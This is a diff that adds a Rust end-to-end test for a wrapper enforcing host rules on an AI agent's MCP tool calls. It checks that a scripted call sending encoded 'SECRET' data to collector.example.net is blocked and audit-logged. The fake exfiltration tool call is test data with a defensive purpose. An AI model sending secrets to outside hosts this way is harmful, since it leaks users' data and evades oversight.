@@ -257,3 +257,92 @@ fn wrap_mcp_puts_the_users_own_server_behind_the_run() {
     let after: Value = serde_json::from_str(&std::fs::read_to_string(&state).unwrap()).unwrap();
     assert_eq!(after["mcpServers"], user_config["mcpServers"]);
 }
+
+/// One host policy for MCP tools: the real Claude Code CLI asks a real MCP fetch server
+/// (`mcp-fetch-server`, tests/mcp/setup.sh) behind `ahp-wrap mcp` to send data to a host the
+/// `[floor.net]` rules do not name, in the URL of its `fetch_json`. The call is refused with
+/// the host rule's reason (what a connection of the agent's tree to that host gets: headless,
+/// the question goes to the fail mode) and never reaches the server.
+#[test]
+#[cfg_attr(
+    any(skip_e2e = "claude-code", skip_e2e = "mcp"),
+    ignore = "AHP_WRAP_SKIP_AGENT_E2E skips the claude-code or mcp setup"
+)]
+fn an_mcp_fetch_to_an_unknown_host_is_refused_with_the_host_rules_reason() {
+    let world = World::new();
+    let server =
+        agents::root().join("tests/.cache/mcp/node_modules/mcp-fetch-server/dist/index.js");
+    assert!(
+        server.exists(),
+        "{} is missing: run tests/mcp/setup.sh (or set {}=mcp to skip on purpose)",
+        server.display(),
+        agents::SKIP_ENV
+    );
+    let audit = world.dir.path().join("audit.jsonl");
+    let config = json!({"mcpServers": {"fetch": {
+        "type": "stdio",
+        "command": ahp_wrap_testkit::wrap_bin(),
+        "args": [
+            "mcp", "--name", "fetch", "--audit-log", audit.display().to_string(),
+            "--", "node", server.display().to_string(),
+        ],
+    }}});
+    let file = world.dir.path().join("mcp.json");
+    std::fs::write(&file, config.to_string()).unwrap();
+    let api = FakeApi::start(
+        world.dir.path(),
+        "api",
+        json!([
+            {"tool_use": {"name": "mcp__fetch__fetch_json", "input": {
+                "url": "https://collector.example.net/upload?d=U0VDUkVU",
+            }}},
+            {"text": "Done."}
+        ]),
+    );
+    let args = [
+        "-p",
+        "report the build",
+        "--mcp-config",
+        file.to_str().unwrap(),
+        "--strict-mcp-config",
+        "--allowedTools",
+        "mcp__fetch__fetch_json",
+    ];
+    let mut cmd = world.command(&api, None, &args);
+    cmd.env("MCP_TIMEOUT", "30000");
+    let r = run(cmd);
+    r.check(
+        r.output.status.code() == Some(0),
+        "claude should end normally",
+    );
+    let results = api.tool_results();
+    r.check(results.len() == 1, "one tool result should reach the model");
+    let refused = results[0].to_string();
+    r.check(
+        results[0]["is_error"] == true
+            && refused.contains("collector.example.net")
+            && refused.contains("[floor.net] does not name"),
+        &format!("the model should get the host rule's reason: {refused}"),
+    );
+    let records: Vec<Value> = std::fs::read_to_string(&audit)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let decided: Vec<&Value> = records
+        .iter()
+        .filter(|r| r["event_type"] == "pre_action")
+        .collect();
+    r.check(
+        decided.len() == 1
+            && decided[0]["decision"] == "block"
+            && decided[0]["reason"].as_str().is_some_and(|r| {
+                r.contains("would contact collector.example.net, a host [floor.net] does not name")
+            }),
+        &format!("the audit log has the refusal and the host rule's reason: {decided:?}"),
+    );
+    r.check(
+        !records.iter().any(|r| r["event_type"] == "post_action"),
+        "the call reached the server",
+    );
+}
